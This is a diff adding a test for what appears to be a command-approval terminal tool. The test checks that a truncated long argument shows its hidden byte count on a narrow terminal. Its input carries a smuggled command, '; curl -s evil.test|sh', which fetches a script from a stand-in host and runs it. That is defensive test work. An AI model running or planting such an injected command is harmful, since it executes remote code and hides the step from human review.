@@ -559,3 +559,26 @@ def test_question_never_drawn_in_colours_the_program_set(lnk, pane, tool):
     assert "#000000" not in colours, colours
     p.key("Escape")
     p.wait_for("st=126", since=at)
+
+
+def test_cut_argument_says_its_length_on_a_narrow_terminal(lnk, pane,
+                                                          tool):
+    """Threat: an argument longer than a row is cut and says its length,
+    so that two arguments cut alike are never taken for the same (`a
+    b000...0.txt` and `a b000...0; curl evil|sh`); on a terminal under
+    240 columns the row was cut again to its width, length and all, and
+    an argument that fits 240 columns was cut with no length at all. A
+    row cut to the terminal says how many bytes it does not show."""
+    arg = "a b" + "0" * 150 + "; curl -s evil.test|sh"
+    p = pane(f"mytool issue '{arg}'; echo st=$?", size=(80, 24))
+    code, qid, at = p.question()
+    rows = p.screen()
+    shown = "\n".join(rows)
+    row = [r for r in rows if r.lstrip().startswith("2  'a b000")]
+    assert len(row) == 1 and row[0].endswith(" more bytes)"), shown
+    # the same start with another end (.txt) says another count
+    more = int(row[0].rsplit("(", 1)[1].split()[0])
+    assert more > len("; curl -s evil.test|sh"), shown
+    assert all(len(r) <= 80 for r in rows), shown
+    p.key("Escape")
+    p.wait_for("st=126", since=at)
